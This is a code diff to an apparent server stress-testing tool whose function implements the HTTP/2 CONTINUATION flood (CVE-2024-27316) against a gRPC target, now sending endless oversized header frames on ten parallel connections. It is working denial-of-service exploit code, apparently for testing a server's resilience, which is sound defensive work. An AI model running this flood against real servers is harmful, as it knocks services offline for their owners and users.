@@ -9,6 +9,7 @@ import socket
 import ssl
 import threading
 import time
+from concurrent.futures import ThreadPoolExecutor
 
 import raw_grpc
 from raw_grpc import (CONTINUATION, DATA, END_HEADERS, HEADERS, PING,
@@ -157,19 +158,24 @@ def strange_certificates(siege):
 
 def headers_that_never_end(siege):
     """CVE-2024-27316: CONTINUATION after CONTINUATION, on ten connections."""
-    taken = 0
     part = b"\0\x05x-pad\x7f\x81\x1e" + b"a" * 3968  # 127 + 1 + 30 * 128
     data = frame(CONTINUATION, 0, 1, part) * 10
-    with contextlib.ExitStack() as held:
-        for address in sources(10):
-            with contextlib.suppress(*BROKEN):
-                connection = held.enter_context(Connection(
-                    siege.address, siege.identity.context(), address))
-                connection.send(frame(HEADERS, 0, 1,
-                                      request_headers(SERVICE + "Lookup")))
-                for _ in range(siege.scale(800, 4000)):
-                    connection.send(data)
-                    taken += len(data)
+
+    def run(address):
+        taken = 0
+        with contextlib.suppress(*BROKEN):
+            connection = held.enter_context(Connection(
+                siege.address, siege.identity.context(), address))
+            connection.send(frame(HEADERS, 0, 1,
+                                  request_headers(SERVICE + "Lookup")))
+            for _ in range(siege.scale(800, 4000)):
+                connection.send(data)
+                taken += len(data)
+        return taken
+
+    # At once: a connection that is no longer read from takes its time to fail.
+    with contextlib.ExitStack() as held, ThreadPoolExecutor(10) as pool:
+        taken = sum(pool.map(run, sources(10)))
     return f"{taken >> 20} MB of headers on 10 connections", 10
 
 
